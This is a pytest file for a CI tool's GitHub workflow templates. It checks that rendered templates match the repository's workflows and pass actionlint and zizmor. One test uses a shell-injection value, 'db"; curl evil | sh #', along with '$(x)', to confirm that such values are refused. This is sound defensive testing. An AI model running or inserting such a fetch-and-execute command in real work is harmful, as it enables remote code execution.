"""The workflows' templates: rendered for this repository they are its workflows, byte for byte
(so the two never drift apart); rendered for another project they pass actionlint and zizmor."""

from __future__ import annotations

import subprocess
import sys
from pathlib import Path

import pytest
from conftest import REPO, copy_project, dbci, git

from ci.init.adoption import WORKFLOWS
from ci.init.render import render, template
from ci.init.templates import DERIVE, own_values

BIN = Path(sys.executable).parent


@pytest.mark.parametrize("name", WORKFLOWS)
def test_the_templates_rendered_for_this_repository_are_its_workflows(name: str) -> None:
    assert render(template(f"workflows/{name}"), own_values()) == \
        (REPO / ".github" / "workflows" / name).read_text(), \
        f".github/workflows/{name} and its template differ: run {DERIVE}"


def test_every_workflow_of_this_repository_has_its_template() -> None:
    assert sorted(p.name for p in (REPO / ".github" / "workflows").glob("*.yml")) == \
        sorted(WORKFLOWS)


def test_a_value_that_is_not_plain_never_reaches_a_workflow() -> None:
    values = {**own_values(), "migrations": 'db"; curl evil | sh #'}
    with pytest.raises(ValueError, match="cannot go into a workflow"):
        render(template("workflows/deploy-migrations.yml"), {**values, "migrations": "$(x)"})


def test_the_workflows_init_writes_for_another_project_pass_actionlint_and_zizmor(
        tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """The reference project as another team's repository (with an rdev stack), adopted."""
    project = copy_project(tmp_path / "portal")
    (project / "pyproject.toml").write_text(
        '[tool.dbci]\nterraform_file = ".happy/terraform/modules/ecs-stack/main.tf"\n')
    git(project, "init", "-q")
    monkeypatch.chdir(project)
    run = dbci("init", "--stages", "dev,qa,production", "--action-ref", "ab" * 20)
    assert run.code == 0, run.out + run.err
    written = project / ".github" / "workflows"
    assert sorted(p.name for p in written.glob("*.yml")) == sorted(WORKFLOWS)
    text = "".join(p.read_text() for p in written.glob("*.yml"))
    assert "uses: ./" not in text and f"uses: dbci-dev/dbci@{'ab' * 20}\n" in text
    assert "  qa:\n    needs: dev\n" in text and "  production:\n    needs: qa\n" in text
    assert "matrix.stage == 'production'" in text and "  tests:\n" not in text
    lint = subprocess.run([str(BIN / "actionlint"), "-no-color"], cwd=project,
                          capture_output=True, text=True)
    assert lint.returncode == 0, lint.stdout + lint.stderr
    audit = subprocess.run([str(BIN / "zizmor"), "--offline", "--persona=auditor",
                            "--no-progress", str(written)], capture_output=True, text=True)
    assert audit.returncode == 0 and "No findings to report" in audit.stdout + audit.stderr, \
        audit.stdout + audit.stderr
